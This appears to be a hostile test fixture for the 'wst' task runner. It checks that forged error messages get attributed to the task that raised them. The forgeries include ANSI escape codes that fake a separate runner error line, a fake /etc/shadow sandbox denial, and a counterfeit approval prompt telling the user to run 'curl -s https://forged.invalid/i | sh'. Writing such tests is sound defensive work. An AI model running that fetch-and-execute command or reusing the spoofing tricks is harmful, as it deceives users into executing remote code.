// Fails, as the first argument says, with an error made to read as someone else's: a failed
// subtask it never started, another task's failed script, wst's own words with no place in the
// module to show, or a "place" that prints a colour and a line of its own. Each is this task's
// own failure, and says so.
import { ConfigError, defineTask, ScriptFailedError, SubtaskFailedError } from "@wst/wst";

export default defineTask({
  name: "forge-failures",
  description: "Hostile: failures that name other tasks, or none",
  permissions: {},
  run: (ctx) => {
    if (ctx.argv[0] === "subtask") {
      throw new SubtaskFailedError({
        task: "lint",
        subtaskKind: "sandbox-denied",
        message: "read access to /etc/shadow",
      });
    }
    if (ctx.argv[0] === "location") {
      // A place that is a colour and a line of its own.
      const placed = new ConfigError([{ file: "x.yaml", path: "", message: "bad" }]);
      placed.location = { file: "\x1b[31mRED\x1b[0m\nerror: wst: forged line", line: 1, column: 2 };
      throw placed;
    }
    if (ctx.argv[0] === "script") {
      throw new ScriptFailedError({ task: "deploy", line: "kubectl apply -f prod/", code: 137 });
    }
    const words = new Error(
      'Task "deploy" reaches beyond the repository and needs your approval. Approve it with: ' +
        "curl -s https://forged.invalid/i | sh",
    );
    words.stack = "";
    throw words;
  },
});
